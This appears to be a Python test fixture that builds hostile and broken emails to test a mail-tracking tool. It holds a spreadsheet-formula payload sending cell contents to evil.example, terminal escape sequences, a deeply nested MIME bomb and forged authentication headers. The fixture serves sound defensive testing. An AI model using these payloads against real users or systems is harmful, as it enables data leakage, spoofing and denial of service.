"""Hostile and broken mail, built from the letters actually sent: what anyone may write to the
office mailbox to stop, fool or flood `track`."""

from __future__ import annotations

import base64
from email.message import EmailMessage
from email.utils import format_datetime

from tests.mail_corpus import OFFICE, WHEN, bounce, reply

AUTHSERV_ID = "mx.office.example"
LONG_CYRILLIC = (
    "Информация о проведённых мероприятиях в рамках Всемирной недели качества в "
    "муниципальных учреждениях и на предприятиях района за четвёртый квартал отчётного года "
    "(сводная таблица с приложениями)"
)
EMOJI = "📊📈✅" * 30 + " отчёт"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Подробнее")'


def deep_nesting(sender: str, levels: int = 1000) -> bytes:
    """MIME nested LEVELS deep, labelled multipart/report so that the pre-selection fetches
    it; 70 KB for a thousand levels."""
    body = b"text\r\n"
    for level in range(levels, 0, -1):
        body = (
            f'Content-Type: multipart/mixed; boundary="b{level}"\r\n\r\n--b{level}\r\n'.encode()
            + body
            + f"\r\n--b{level}--\r\n".encode()
        )
    return (
        (
            f"From: {sender}\r\nTo: {OFFICE}\r\nSubject: Re: nested\r\n"
            f"Date: {format_datetime(WHEN)}\r\nMessage-ID: <deep@attacker.example>\r\n"
            "MIME-Version: 1.0\r\n"
            'Content-Type: multipart/report; report-type=delivery-status; boundary="top"\r\n\r\n'
            "--top\r\n"
        ).encode()
        + body
        + b"\r\n--top--\r\n"
    )


def encoded_word(text: str) -> str:
    return "=?utf-8?b?" + base64.b64encode(text.encode()).decode() + "?="


ESCAPES = "\x1b]0;pwned\x07\x1b[2J\x1b[H\x1b[31;1mКРАСНЫЙ\x1b[0m\u202e"


def with_authentication_results(data: bytes, value: str) -> bytes:
    """The header as the office's server puts it: on top of the message."""
    return f"Authentication-Results: {value}\r\n".encode() + data


def corpus(sent: dict[str, EmailMessage]) -> list[tuple[str, bytes]]:
    s = sent
    return [
        (
            "01-real-gryazi.eml",
            reply(
                s["gryazi"],
                "glava@gryazi.example.org",
                "Информация направлена.",
                message_id="<real1@gryazi.example.org>",
                attachments=[
                    (LONG_CYRILLIC + ".pdf", b"%PDF-1.4 long"),
                    (EMOJI + ".xlsx", b"PK emoji"),
                ],
            ),
        ),
        ("02-deep.eml", deep_nesting("glava@lipetsk.example.org")),
        (
            "03-real-volovo.eml",
            reply(
                s["volovo"],
                "glava@volovo.example.org",
                "Ответ по существу.",
                subject=encoded_word("Ответ " + ESCAPES),
                message_id="<real2@volovo.example.org>",
                headers={
                    # stamped by someone else's server: not believed, not held against it
                    "Authentication-Results": "mx.attacker.example; dmarc=fail; dkim=fail",
                },
            ),
        ),
        (
            "04-forged-thread.eml",
            with_authentication_results(
                reply(
                    s["dankov"],
                    "glava@dankov.example.org",
                    "Всё сделано.",
                    message_id="<forged1@attacker.example>",
                ),
                f"{AUTHSERV_ID}; spf=fail smtp.mailfrom=attacker.example; "
                "dkim=none (no signature); dmarc=fail (p=none) header.from=dankov.example.org",
            ),
        ),
        (
            "05-forged-bounce.eml",
            with_authentication_results(
                bounce(
                    s["zadonsk"],
                    "glava@zadonsk.example.org",
                    with_original=True,
                    message_id="<forged2@attacker.example>",
                ),
                f"{AUTHSERV_ID} 1; spf=pass smtp.mailfrom=relay.example.org; dkim=fail "
                '(signature did not verify) header.d="relay.example.org"; dmarc=none',
            ),
        ),
        (
            "06-formula-bounce.eml",
            bounce(
                s["izmalkovo"],
                "glava@izmalkovo.example.org",
                with_original=True,
                message_id="<b-formula@relay.example.org>",
            ).replace(b"smtp; 550 5.1.1 User unknown", FORMULA.encode()),
        ),
    ]
